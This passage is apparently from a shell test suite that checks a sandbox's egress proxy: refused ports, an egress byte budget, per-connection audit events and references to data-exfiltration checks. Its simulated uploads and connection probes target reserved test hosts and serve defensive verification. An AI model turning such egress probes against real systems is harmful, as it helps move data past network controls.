	prun --headless --policy "$pol" -- sh -c "
		$CURL -p -x http://127.0.0.1:3128 --cacert $CA https://api.test.example:8443/deny-port; echo curl=\$?
		$PXC connect api.test.example:22
		$PXC connect 203.0.113.12:8080"
	check "$p: CONNECT to a port no rule allows (api.test.example:8443, :22, 203.0.113.12:8080) is refused, logged"
	expect_out_re "^curl=[1-9]"
	expect_out_lacks HTTPS-ECHO
	expect_out_re "^RESULT connect api.test.example:22 refused"
	expect_out_re "^RESULT connect 203.0.113.12:8080 refused"
	expect_fast 8000
	expect_not_reached https.log /deny-port
	expect_not_reached conn.log "8443 "
	expect_not_reached conn.log "8080 "
	expect_proxy_event api.test.example:8443 deny
	expect_proxy_event api.test.example:22 deny
	expect_proxy_event 203.0.113.12:8080 deny
	done_check
}

case_budget()
{
	p=$RUN_USER
	pol=$(budget_policy)
	mark
	prun --headless --policy "$pol" -- sh -c "
		$PXC upload http://test.example/small 2000
		$PXC upload http://test.example/upload 100000
		$PXC abs http://test.example/after-budget"
	check "$p: max_egress_bytes 10000: a 2 KB upload passes, a 100 KB one is cut off, the session's egress ends"
	expect_out_re "^RESULT upload 2000 .* reached: RECEIVED 2000"
	expect_out_lacks "RECEIVED 100000"
	expect_reached http.log "/small POST 2000"
	got=$(since http.log | awk '$3 == "/upload" { print $5 }')
	if [ -n "$got" ] && [ "$got" -ge 10000 ]; then
		_fail "the server received $got bytes of the upload (budget 10000, head included)"
	fi
	expect_not_reached http.log /after-budget
	"$PY" - "$LOG" <<'EOF' || _fail "no proxy log line says the egress budget was spent"
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("source") == "proxy" and any(w in line.lower() for w in ("budget", "egress", "max_egress")):
        sys.exit(0)
sys.exit(1)
EOF
	done_check
}

case_events()
{
	p=$RUN_USER
	pol=$(lab_policy)
	mark
	prun --headless --policy "$pol" -- sh -c "
		$CURL -x http://127.0.0.1:3128 http://test.example/ev-1
		${STATIC_SKIP:+: }$CLIENT tcp 203.0.113.12 7000
		$CURL -x http://127.0.0.1:3128 http://denied.test.example/ev-2
		$CURL --cacert $CA https://api.test.example/ev-3
		true"
	check "$p: the audit log has one event per connection: destination, decision, rule, bytes, duration"
	expect_log_valid
	"$PY" - "$LOG" "${STATIC_SKIP:-}" <<'EOF' >"$T/ev" 2>&1 || _fail "$(cat "$T/ev")"
import json, re, sys
want = {"test.example:80": "allow", "denied.test.example:80": "deny", "api.test.example:443": "allow"}
if not sys.argv[2]:
    want["203.0.113.12:7000"] = "allow"
evs = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
px = [e for e in evs if e.get("source") == "proxy" and e.get("network_dst") in want]
bad = []
for d, dec in want.items():
    mine = [e for e in px if e["network_dst"] == d]
    if len(mine) != 1:
        bad.append("%s: %d events" % (d, len(mine)))
        continue
    e = mine[0]
    if e.get("decision") != dec:
        bad.append("%s: decision %s" % (d, e.get("decision")))
    if dec == "allow" and not e.get("rule"):
        bad.append("%s: no rule" % d)
    # bytes and duration: fields of their own (bytes_up, duration_ms, ...) or, as the launcher
    # writes them today, in the message: "116 bytes up, 206 down, 2 ms, via http-proxy"
    m = re.search(r"(\d+) bytes up, (\d+) down, (\d+) ms", e.get("message", ""))
    up = [e[k] for k in e if "bytes" in k and isinstance(e[k], int)]
    if m:
        up.append(int(m.group(1)) + int(m.group(2)))
    if not up:
        bad.append("%s: no byte counts (%s)" % (d, ", ".join(sorted(e))))
    if not m and not [k for k in e if "duration" in k]:
        bad.append("%s: no duration (%s)" % (d, ", ".join(sorted(e))))
    if dec == "allow" and not any(v > 0 for v in up):
        bad.append("%s: allowed but no bytes counted" % d)
if bad:
    print("; ".join(bad))
    sys.exit(1)
EOF
	done_check
}

# Many short connections: each leaves a client port in TIME-WAIT inside the sandbox's
# namespace; the launcher lets the kernel reuse them (tcp_tw_reuse) over a wide port range.
case_many_connections()
{
	p=$RUN_USER
	pol=$(lab_policy)
	prun --headless --policy "$pol" -- sh -c '
		cat /proc/sys/net/ipv4/tcp_tw_reuse /proc/sys/net/ipv4/ip_local_port_range'
	check "$p: the sandbox's namespace reuses TIME-WAIT ports (tcp_tw_reuse 1, ports 1024-65535)"
	expect_rc 0
	expect_out_re "^1\$"
	expect_out_re "^1024[[:space:]]+65535\$"
	done_check
}

CASES=${ONLY_CASES:-"curl curl_connect urllib node git static dns_exfil mismatch hosts real_addr ip_literals denied_port budget events many_connections"}
for u in $USERS; do
	use_user "$u"
	echo "# ---- as $u"
	for c in $CASES; do
		"case_$c"
	done
done

# The lab's DNS saw queries (from the launcher's real resolutions of allowed names): the
# exfiltration checks above looked at a log that works.
check "the lab's DNS log recorded the launcher's real lookups (the exfiltration checks are meaningful)"
grep -qE " (api\.)?test\.example " "$LAB_DIR/dns.log" || _fail "dns.log never saw test.example or api.test.example"
RC=0 OUT="" ERR="" LOG=/dev/null
done_check

tap_plan_end
